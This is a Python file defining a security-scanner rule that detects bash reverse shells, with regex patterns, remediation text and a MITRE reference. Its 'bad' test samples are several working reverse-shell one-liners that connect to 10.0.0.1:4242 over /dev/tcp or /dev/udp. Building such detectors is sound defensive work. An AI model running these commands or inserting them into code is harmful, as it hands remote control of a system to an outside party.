"""An interactive shell on a network device of bash."""

from __future__ import annotations

from symbi.contracts.scanner import Nearby, Pattern, ScannerRule

NET = r"/dev/(?:tcp|udp)/"
SH = r"(?:^|[^\w-])(?:ba|z|k|da|a)?sh"

RULE = ScannerRule(
    id="reverse-shell-bash",
    category="reverse-shell",
    severity="critical",
    message="Opens an interactive shell on a network connection",
    check=(
        Pattern(rf"{SH}\s+(?:-\S+\s+){{0,4}}-[a-z]*i\b.*{NET}"),
        Pattern(rf"{NET}\S+.*{SH}\s+-[a-z]*i\b"),
        Pattern(rf"{SH}\s+(?:[\d<>&|-]+\s*){{0,6}}[<>]&?\s*{NET}"),
        Pattern(rf"\bexec\s+\d+<>\s*{NET}.*(?:\bwhile\b.*\bread\b|{SH}\s*[<>\d])"),
        Nearby(
            (
                rf"\bexec\s+\d*<>\s*{NET}",
                rf"(?:<&\s*\d.*\bwhile\b.*\bread\b|\bread\b.*<&\s*\d|{SH}\s+(?:-i\s+)?[\d<>&]*<&\s*\d)",
            ),
            within=10,
        ),
    ),
    bad=(
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "zsh -i > /dev/udp/10.0.0.1/53 0>&1",
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
        "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "exec 5<>/dev/tcp/10.0.0.1/4242\ncat <&5 | while read l; do $l 2>&5 >&5; done",
    ),
    good=("bash -i", "echo ok > /dev/tcp/127.0.0.1/80", "exec bash -i"),
    remediation="Remove it; no skill needs to hand a shell to the network.",
    references=("https://attack.mitre.org/techniques/T1059/004/",),
    tags=("network", "execute"),
)
